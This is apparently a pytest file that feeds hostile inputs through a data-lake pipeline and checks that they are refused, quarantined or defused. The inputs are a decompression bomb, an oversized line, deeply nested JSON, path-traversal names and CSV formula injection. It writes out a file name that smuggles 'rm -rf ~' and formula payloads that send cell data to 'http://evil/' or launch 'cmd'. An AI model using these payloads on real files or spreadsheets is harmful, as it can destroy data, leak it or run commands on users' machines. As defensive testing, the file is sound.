"""Hostile input through the real pipelines: enormous lines, a decompression bomb, names that try to leave
their folder, JSON nested past any limit, formulas in values that reach a spreadsheet. Nothing crashes,
nothing is silently lost, each bad thing gets its reason."""

from __future__ import annotations

import datetime as dt
import gzip
import io
import json
import time
from contextlib import redirect_stdout

import pandas as pd
import pyarrow as pa
import pytest

from pipelines.cli import main
from pipelines.config import load_settings
from pipelines.flows import clean as clean_flow
from pipelines.lake import delta
from pipelines.lake.layout import Zone
from pipelines.lake.ledger import read_ledger
from pipelines.lake.storage import Lake
from pipelines.sources.registry import get_source
from pipelines.validate.gate import QualityGateError
from tests.conftest import beijing_slice
from tests.unit.sources.test_corpus import feed, run

HOURS = 24 * 30
ARRIVED = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
AIR_NAME = "PRSA_Data_{}_20130301-20170228.csv"


def with_line(content: bytes, number: int, replacement: bytes) -> bytes:
    lines = content.splitlines(keepends=True)
    lines[number - 1] = replacement
    return b"".join(lines)


@pytest.mark.slow
def test_hostile_files_in_landing(tmp_path, dask_client, scenario) -> None:
    started = time.monotonic()
    settings = load_settings(lake_uri=str(tmp_path / "lake"), dask_workers=2)
    lake = Lake(settings)
    lake.ensure_exists()
    air = get_source("air_beijing").model_copy(update={"max_decompressed_mib": 1})  # a bomb is anything past 1 MiB here
    landing = lake.layout.landing_dir(air.name)
    good = beijing_slice("Gucheng", HOURS)
    enormous = with_line(beijing_slice("Changping", HOURS), 10, b"9,2013,3,1,8," + b"7" * (40 * 1024 * 1024) + b"\n")
    bomb = gzip.compress(b"1,2013,3,1,0,9,9,9,9,900,9,1,1020,-19,0,N,4,Huairou\n" * 400_000)  # ~20 MiB of rows in ~60 KiB
    lake.write_bytes(f"{landing}/{AIR_NAME.format('Gucheng')}", good)
    lake.write_bytes(f"{landing}/{AIR_NAME.format('Changping')}", enormous)
    lake.write_bytes(f"{landing}/{AIR_NAME.format('Huairou')}", bomb)  # gzip inside, found by its magic bytes
    escaping = "PRSA_Data_Dingling ;rm -rf ~_.csv"  # matches the landing pattern, but is no safe object name
    lake.write_bytes(f"{landing}/{escaping}", good)
    climbing = "PRSA_Data_..%2F..%2Fraw%2Fair_beijing.csv"  # an encoded climb out of the folder
    lake.write_bytes(f"{landing}/{climbing}", good)

    report = clean_flow.ingest(settings, air, "hostile", ARRIVED)
    assert sorted(r.file_name for r in report.new) == sorted(
        [AIR_NAME.format("Gucheng"), AIR_NAME.format("Changping"), AIR_NAME.format("Huairou")]
    )
    assert sorted(report.refused) == sorted([escaping, climbing])
    assert all(
        why.startswith("invalid file name") and why.endswith(f"rename it in {landing} to be ingested")
        for why in report.refused.values()
    )
    assert lake.exists(f"{landing}/{escaping}") and lake.exists(f"{landing}/{climbing}")  # refused, never deleted
    assert lake.glob(f"{lake.layout.zone(Zone.RAW)}/air_beijing/*/*") and not any(
        "%2F" in path or " " in path for path in lake.fs.find(lake.layout.zone(Zone.RAW))
    )
    # the bomb is quarantined whole, which fails the quality gate: nothing of the dataset is published
    with pytest.raises(
        QualityGateError,
        match=r"Huairou \(PRSA_Data_Huairou_20130301-20170228.csv\): 1 of 1 rows quarantined .*DECOMPRESSION_LIMIT=1",
    ):
        clean_flow.clean(settings, air, "hostile", dask_client)
    assert not delta.table_exists(lake, lake.layout.table(Zone.CLEAN, "air_quality_hourly"))
    # the department re-delivers that file properly; the next run publishes, the enormous line quarantined
    lake.write_bytes(f"{landing}/{AIR_NAME.format('Huairou')}", beijing_slice("Huairou", HOURS))
    clean_flow.ingest(settings, air, "redelivered", ARRIVED + dt.timedelta(hours=1))
    summary = clean_flow.clean(settings, air, "redelivered", dask_client)

    ledger = read_ledger(lake, "air_quality_hourly").set_index("source_partition")
    quarantine = delta.read_table(lake, lake.layout.table(Zone.QUARANTINE, "air_quality_hourly"))
    reasons = quarantine.groupby(["source_partition", "reason_code"]).size().to_dict()
    assert reasons == {("Changping", "FIELD_COUNT_MISMATCH"): 1}
    assert "field larger than field limit" in quarantine.loc[quarantine.source_partition == "Changping", "reason_detail"].iloc[0]
    assert quarantine["raw_record"].str.len().max() < 1_000_000  # the quarantine keeps a prefix, not 40 MiB
    clean = delta.read_table(lake, lake.layout.table(Zone.CLEAN, "air_quality_hourly"))
    counts = clean.groupby("station").size().to_dict()
    assert counts == {"Gucheng": HOURS, "Changping": HOURS - 1, "Huairou": HOURS}
    balanced = all(
        ledger.loc[p, "rows_in"]
        == ledger.loc[p, "rows_clean"] + ledger.loc[p, "rows_quarantined"] + ledger.loc[p, "rows_deduplicated"]
        for p in ledger.index
    )
    lost = 3 * HOURS - (len(clean) + len(quarantine))
    scenario.record(
        balanced and summary.rows_clean == 3 * HOURS - 1,
        rows_lost=lost,
        duplicate_rows=len(clean) - len(clean.drop_duplicates(["station", "ts_utc"])),
        seconds=time.monotonic() - started,
        why=f"ledger {ledger.to_dict()}",
    )
    scenario.assert_all_passed()


def test_json_nested_past_any_limit(scenario) -> None:
    started = time.monotonic()
    spec = feed("corpus_events_jsonl")
    good = '{"id": "E1", "reported_at": "2024-05-01T08:00:00+08:00", "category": "litter", "status": "open", "text": "x", "lat": 39.91, "lon": 116.35}'
    for depth in (100, 10_000, 1_000_000):  # past our limit, past Python's recursion limit, and far past
        nested = (
            '{"id": "E2", "reported_at": "2024-05-01T09:00:00+08:00", "category": "litter", "status": "open", "text": '
            + "[" * depth
            + "]" * depth
            + ', "lat": 39.91, "lon": 116.35}'
        )
        result = run(spec, f"{good}\n{nested}\n".encode(), "nested.jsonl")
        reasons = result.rejects["reason_code"].tolist()
        scenario.record(
            len(result.clean) == 1 and reasons in (["NESTING_TOO_DEEP"], ["MALFORMED_JSON"]),
            seconds=time.monotonic() - started,
            why=f"depth {depth}: {reasons}",
        )
    scenario.assert_all_passed()


def test_formulas_in_mart_values_are_defused_on_export(tmp_path, monkeypatch, scenario) -> None:
    settings = load_settings(lake_uri=str(tmp_path / "lake"))
    lake = Lake(settings)
    evil = ['=HYPERLINK("http://evil/"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "Dongcheng"]
    schema = pa.schema([pa.field("district", pa.string()), pa.field("incidents", pa.int64())])
    delta.publish_frame(
        lake,
        lake.layout.table(Zone.CURATED, "crime_hotspots_probe"),
        pd.DataFrame({"district": evil, "incidents": [-1, 2, 3, 4, 5, 6]}),
        schema,
        (),
        None,
        "r",
        "k",
    )
    monkeypatch.setenv("CITYLAKE_LAKE_URI", settings.lake_uri)
    out = io.StringIO()
    with redirect_stdout(out):
        assert main(["query", "SELECT * FROM crime_hotspots_probe ORDER BY incidents", "--format", "csv"]) == 0
    exported = pd.read_csv(io.StringIO(out.getvalue()), keep_default_na=False)
    defused = exported["district"].tolist()
    scenario.record(
        defused == ["'" + v for v in evil[:5]] + ["Dongcheng"] and exported["incidents"].tolist() == [-1, 2, 3, 4, 5, 6],
        why=json.dumps(defused),
    )
    scenario.assert_all_passed()
